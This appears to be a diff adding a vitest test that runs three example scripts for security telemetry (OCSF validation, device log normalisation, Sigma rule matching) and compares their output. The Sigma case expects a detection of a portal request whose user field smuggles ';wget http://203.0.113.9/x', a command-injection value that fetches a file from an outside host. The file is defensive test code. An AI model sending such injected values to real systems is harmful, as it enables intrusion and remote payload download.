@@ -1,0 +1,22 @@
+import { execFileSync } from "node:child_process";
+import { dirname, join } from "node:path";
+import { fileURLToPath } from "node:url";
+import { expect, it } from "vitest";
+
+const examples = dirname(fileURLToPath(import.meta.url));
+
+it.each([
+  ["ocsf/validate.ts", "Network Activity\nsrc_endpoint.port: expected a port from 0 to 65535, got 70000\n"],
+  ["devices/normalise.ts", "2026-03-02T08:00:00.000Z edge-1 class 3002 status 2\n"],
+  [
+    "sigma/match.ts",
+    "Shell text in a portal request\n  url|contains: ;wget  in /portal?user=a;wget http://203.0.113.9/x\n",
+  ],
+])("%s prints what its reader expects", (file, expected) => {
+  const output = execFileSync(
+    process.execPath,
+    ["--conditions=@breakwater/source", "--disable-warning=ExperimentalWarning", join(examples, file)],
+    { encoding: "utf8" },
+  );
+  expect(output).toBe(expected);
+});
